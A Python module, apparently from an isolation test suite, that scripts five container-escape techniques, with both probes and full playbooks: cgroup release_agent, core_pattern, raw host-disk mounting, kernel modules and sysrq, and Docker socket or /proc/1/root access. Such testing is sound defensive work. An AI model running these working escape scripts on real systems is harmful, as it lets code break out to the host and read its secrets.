"""Ways out of a node that its root may try, from the node to the machine that runs it.

Each is a script for the node's root. On a node with a kernel of its own it is played to the
end. On a container, whose kernel is this machine's, `knock` only opens what the way needs and
goes no further: a test must not break out of what it runs on. What it finds closed may be played
there, too: it fails at its first step.
"""

import shlex
from dataclasses import dataclass

# What begins each script: FOLDER is a folder of the host with a file `secret`; MARK is what an
# escape leaves there, if it can; DISK the numbers of the host's disk.
_BEGIN = """
set -eu
FOLDER={folder} MARK={folder}/fell NUMBERS={disk}
agent() {{
  printf '#!/bin/sh\\nmkdir -p %s && echo fell > %s\\n' "$FOLDER" "$MARK" > /escape
  chmod 755 /escape
}}
at=$(mktemp -d)
"""
_HIERARCHY = """
mount -t cgroup -o none,name=escape cgroup "$at"
trap 'rmdir "$at/inner" 2>/dev/null || true; umount "$at"' EXIT
"""
_PROC = """
mount -t proc proc "$at"
trap 'umount "$at"' EXIT
"""
# The same for knocking: what cannot be mounted is closed.
_TRY_PROC = """
mount -t proc proc "$at" || { echo closed; exit 0; }
trap 'umount "$at"' EXIT
"""
_TRY_HIERARCHY = """
for there in /sys/fs/cgroup/release_agent /sys/fs/cgroup/*/release_agent; do
  if [ -e "$there" ] && (: >> "$there"); then echo open; exit 0; fi
done
mount -t cgroup -o none,name=escape cgroup "$at" || { echo closed; exit 0; }
trap 'rmdir "$at/inner" 2>/dev/null || true; umount "$at"' EXIT
"""
_OWN_DEVICES = "/sys/fs/cgroup/devices$(sed -n 's/^[0-9]*:devices://p' /proc/1/cgroup)"


@dataclass(frozen=True)
class Escape:
    """A way out."""

    name: str
    play: str
    knock: str

    def script(self, body, folder, disk):
        """Return a script for the node's root."""
        return _BEGIN.format(folder=shlex.quote(str(folder)), disk=shlex.quote(disk)) + body


ESCAPES = (
    Escape(
        "release agent",
        _HIERARCHY
        + """
agent
mkdir "$at/inner"
echo /escape > "$at/release_agent"
echo 1 > "$at/inner/notify_on_release"
sh -c 'echo $$ > "$0"' "$at/inner/cgroup.procs"
for _ in $(seq 50); do [ -e "$MARK" ] && break; sleep 0.2; done
[ -e "$MARK" ] && echo played
""",
        _TRY_HIERARCHY
        + """
mkdir "$at/inner"
if (: >> "$at/release_agent"); then echo open; else echo closed; fi
""",
    ),
    Escape(
        "core pattern",
        _PROC
        + """
agent
pattern="$at/sys/kernel/core_pattern" old=$(cat /proc/sys/kernel/core_pattern)
echo '|/escape' > "$pattern"
sh -c 'ulimit -c unlimited; kill -SEGV $$' || true
for _ in $(seq 50); do [ -e "$MARK" ] && break; sleep 0.2; done
echo "$old" > "$pattern"
[ -e "$MARK" ] && echo played
""",
        """
if (: >> /proc/sys/kernel/core_pattern); then echo open; exit 0; fi
"""
        + _TRY_PROC
        + """
if (: >> "$at/sys/kernel/core_pattern"); then echo open; else echo closed; fi
""",
    ),
    Escape(
        "the host's disk",
        """
own=$(stat --format='%Hd %Ld' /)
for numbers in "$NUMBERS" "$own"; do
  device=$(mktemp --dry-run)
  mknod "$device" b $numbers
  if mount "$device" "$at"; then
    cat "$at/$FOLDER/secret" 2>/dev/null || true
    mkdir -p "$at/$FOLDER"
    echo fell > "$at/$MARK"
    umount "$at"
  fi
  rm "$device"
done
[ -e "$MARK" ] && echo played
""",
        # Docker's rules hold for as long as nobody changes them: with cgroup v1 who may write
        # here, with v2 who may detach its program from the cgroup (CAP_SYS_ADMIN, bit 21).
        f"""
bounds=$(sed -n 's/^CapBnd:[[:space:]]*//p' /proc/self/status)
device=$(mktemp --dry-run)
if ! mknod "$device" b $NUMBERS; then echo closed; exit 0; fi
rm "$device"
if [ -d "{_OWN_DEVICES}" ]; then
  if grep --quiet '^a' "{_OWN_DEVICES}/devices.list" || (: >> "{_OWN_DEVICES}/devices.allow")
  then echo open; else echo closed; fi
elif [ $((0x$bounds >> 21 & 1)) = 1 ]; then echo open
else echo closed; fi
""",
    ),
    Escape(
        "the kernel's modules and keys",
        """
modprobe dummy
dmesg --clear
echo h > /proc/sysrq-trigger
grep --quiet '^dummy ' /proc/modules && dmesg | grep --quiet 'sysrq: HELP' && echo played
""",
        # CAP_SYS_MODULE is bit 16. The keys are in /proc, which can be mounted anew.
        """
bounds=$(sed -n 's/^CapBnd:[[:space:]]*//p' /proc/self/status)
if [ $((0x$bounds >> 16 & 1)) = 1 ]; then echo open; exit 0; fi
if [ -e /proc/sysrq-trigger ] && (: >> /proc/sysrq-trigger); then echo open; exit 0; fi
"""
        + _TRY_PROC
        + """
if [ -e "$at/sysrq-trigger" ] && (: >> "$at/sysrq-trigger"); then echo open
else echo closed; fi
""",
    ),
    Escape(
        "Docker's socket and the first process",
        """
cat "/proc/1/root/$FOLDER/secret" 2>/dev/null || true
for socket in /run/docker.sock /var/run/docker.sock; do [ -S "$socket" ] && echo "$socket"; done
[ "$(cat /proc/1/root/etc/hostname)" = "$(hostname)" ] && echo played
""",
        """
if [ -e "/proc/1/root/$FOLDER/secret" ] || [ -S /run/docker.sock ]
then echo open; else echo closed; fi
""",
    ),
)
